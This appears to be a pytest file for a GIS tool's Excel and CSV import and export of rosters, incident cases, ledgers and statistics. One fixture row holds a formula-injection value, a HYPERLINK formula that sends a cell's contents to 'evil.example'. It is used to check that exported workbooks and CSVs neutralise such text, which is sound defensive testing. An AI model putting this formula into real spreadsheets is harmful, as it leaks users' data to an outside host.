"""Excel in and out: rosters and case lists read from .xlsx, the grid ledger and statistics written
as .xlsx with Chinese headers, and CSV exports that Excel opens as they are meant."""

from __future__ import annotations

import datetime as dt
import json

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from api.cli import app
from geo.incidents.feeds import IncidentMapping, read_incident_feed
from geo.people import workers
from geo.storage.store import open_store

runner = CliRunner()
BOSTON_MAPPING = "data/incident_mappings/boston311.json"


def gridmap(*args, lang: str = "zh"):
    return runner.invoke(app, [str(a) for a in args], env={"GRIDMAP_LANG": lang})


def save_workbook(path, header, rows):
    """A workbook as an office saves it: numbers as number cells, times as date cells."""
    book = Workbook()
    sheet = book.active
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # text typed into a cell, not a formula
    book.save(path)
    return path


def sheet_rows(path) -> list[list]:
    book = load_workbook(path, read_only=True)
    rows = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    book.close()
    return rows


@pytest.fixture(scope="module")
def project_with_cases(api_db, tmp_path_factory):
    """Kunming staffed, with 60 cases at its buildings imported from an .xlsx case list."""
    folder = tmp_path_factory.mktemp("excel")
    store = open_store(api_db)
    points = store.read_layer("buildings").representative_point().to_crs(4326).iloc[:60]
    store.engine.dispose()
    rows = [
        (
            f"KM{i:04d}",
            round(point.x, 6),
            round(point.y, 6),
            "道路不洁",
            dt.datetime(2026, 8, 1, 8, 30) + dt.timedelta(hours=i),
            '=HYPERLINK("http://evil.example/?"&A1)' if i == 0 else f"路面不洁 {i}",
        )
        for i, point in enumerate(points)
    ]
    header = ("编号", "经度", "纬度", "类别", "上报时间", "问题描述")
    feed = save_workbook(folder / "案件.xlsx", header, rows)
    imported = gridmap(
        "incidents", "import", feed, "--db", api_db, "--json",
        "--id-col", "编号", "--lon-col", "经度", "--lat-col", "纬度", "--category-col", "类别",
        "--time-col", "上报时间", "--description-col", "问题描述",
    )  # fmt: skip
    assert imported.exit_code == 0, imported.output
    return api_db, json.loads(imported.stdout)


def test_a_roster_saved_from_excel_reads_like_its_csv(tmp_path, api_db):
    communities = open_store(api_db).read_layer("communities")["community"].tolist()
    rows = [
        ("0001", "张伟", 13800000001, communities[0]),
        ("0002", "王芳", "139-0000-0002", communities[0]),
        ("0003", "李娜", None, communities[1]),
    ]
    path = save_workbook(tmp_path / "花名册.xlsx", ("工号", "姓名", "手机号", "社区"), rows)
    roster = workers.read_roster(path, communities=communities)
    assert roster["worker_id"].tolist() == ["0001", "0002", "0003"]
    assert roster["phone"].tolist() == ["13800000001", "13900000002", ""]
    assert roster["community"].tolist() == [communities[0], communities[0], communities[1]]


def test_a_roster_that_is_not_a_workbook_is_one_line(tmp_path, api_db):
    fake = tmp_path / "花名册.xlsx"
    fake.write_text("工号,姓名\n", encoding="utf-8")
    result = gridmap("workers", "import", fake, "--db", api_db)
    assert result.exit_code == 2
    assert result.stderr.strip() == "错误：花名册.xlsx：不是可读取的 Excel (.xlsx) 文件"
    assert result.stdout == ""


def test_the_boston_feed_saved_as_xlsx_reads_as_the_csv_does(tmp_path, shared_data):
    raw = pd.read_csv(shared_data / "boston311_100.csv", dtype=str, keep_default_na=False)
    book = save_workbook(tmp_path / "boston.xlsx", raw.columns, raw.itertuples(index=False))
    mapping = IncidentMapping.from_file(BOSTON_MAPPING)
    from_csv = read_incident_feed(
        shared_data / "boston311_100.csv", mapping=mapping, source="boston311"
    )
    from_xlsx = read_incident_feed(book, mapping=mapping, source="boston311")
    pd.testing.assert_frame_equal(from_xlsx, from_csv)


def test_an_xlsx_case_list_with_date_cells_is_imported_and_located(project_with_cases):
    db, summary = project_with_cases
    assert summary["read"] == 60
    assert summary["located"] == 60
    assert summary["added"] == 60
    listed = gridmap("incidents", "list", "--db", db, "--limit", "0")
    cases = json.loads(listed.stdout)
    first = next(c for c in cases if c["source_id"] == "KM0000")
    assert first["reported_at"] == "2026-08-01T00:30:00+00:00"  # 08:30 in Shanghai
    assert first["description"].startswith("=HYPERLINK")  # kept as given in the project


def test_the_grid_ledger_is_a_workbook_with_chinese_headers(project_with_cases, tmp_path):
    db, _ = project_with_cases
    target = tmp_path / "网格台账.xlsx"
    result = gridmap("ledger", target, "--db", db)
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    rows = sheet_rows(target)
    assert rows[0] == ["网格编码", "社区", "网格员", "工号", "楼栋数", "户数", "在办案件"]
    grids = open_store(db).read_layer("grids")
    assert len(rows) - 1 == len(grids)
    assert sorted(r[0] for r in rows[1:]) == sorted(grids["grid_code"])
    assert sum(r[6] for r in rows[1:]) == 60  # every case is open and in one grid
    assert sum(r[4] for r in rows[1:]) == int(grids["n_buildings"].sum())


def test_statistics_as_xlsx_have_chinese_headers_and_inert_text(project_with_cases, tmp_path):
    db, _ = project_with_cases
    target = tmp_path / "统计.xlsx"
    result = gridmap("incidents", "stats", "--db", db, "--by", "community", "--format", "xlsx",
                     "--output", target)  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = sheet_rows(target)
    assert rows[0][:4] == ["社区", "上报数", "立案数", "结案数"]
    assert sum(r[1] for r in rows[1:]) == 60
    no_target = gridmap("incidents", "stats", "--db", db, "--format", "xlsx")
    assert no_target.exit_code == 2
    assert "--output" in no_target.stderr


def test_text_that_looks_like_a_formula_stays_text_in_every_workbook(tmp_path):
    from geo.exchange.xlsx import write_xlsx

    target = tmp_path / "x.xlsx"
    write_xlsx(
        target, {"表": pd.DataFrame({"描述": ['=HYPERLINK("http://x")', "-12.5", "@SUM(1)"]})}
    )
    cells = load_workbook(target).worksheets[0]
    assert [c.value for c in cells["A"]] == [
        "描述",
        '\'=HYPERLINK("http://x")',
        "-12.5",
        "'@SUM(1)",
    ]
    assert all(c.data_type == "s" for c in cells["A"])


def test_csv_export_for_excel_has_a_bom_local_times_and_geometry_last(project_with_cases, tmp_path):
    db, _ = project_with_cases
    target = tmp_path / "cases.csv"
    result = gridmap("export", target, "--db", db, "--layer", "incidents", "--excel")
    assert result.exit_code == 0, result.output
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(target, dtype=str, encoding="utf-8-sig")
    assert frame.columns[-1] == "WKT"
    first = frame[frame["source_id"] == "KM0000"].iloc[0]
    assert first["reported_at"] == "2026-08-01T08:30:00+08:00"
    assert first["description"].startswith("'=HYPERLINK")
    assert first["WKT"].startswith("POINT (")
    bare = tmp_path / "bare.csv"
    gridmap("export", bare, "--db", db, "--layer", "grids", "--no-geometry")
    assert "WKT" not in pd.read_csv(bare, dtype=str).columns
    assert not bare.read_bytes().startswith(b"\xef\xbb\xbf")
